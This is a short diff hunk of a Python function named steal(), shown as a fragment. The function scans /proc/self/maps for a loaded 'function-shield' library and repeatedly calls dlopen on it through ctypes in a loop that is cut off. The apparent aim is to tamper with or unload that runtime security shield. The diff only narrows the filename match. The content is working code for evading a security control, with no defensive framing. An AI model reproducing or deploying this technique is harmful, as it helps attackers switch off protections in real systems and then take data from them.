@@ -14,7 +14,7 @@ def steal():
     c = ctypes.CDLL(None)
     c.dlopen.restype = ctypes.c_void_p
     with open("/proc/self/maps") as maps:
-        paths = {line.split()[-1] for line in maps if "function-shield" in line and "/" in line}
+        paths = {line.split()[-1] for line in maps if "function-shield.so" in line}
     for path in paths:
         handle = c.dlopen(os.fsencode(path), 2)
         for _ in range(50):
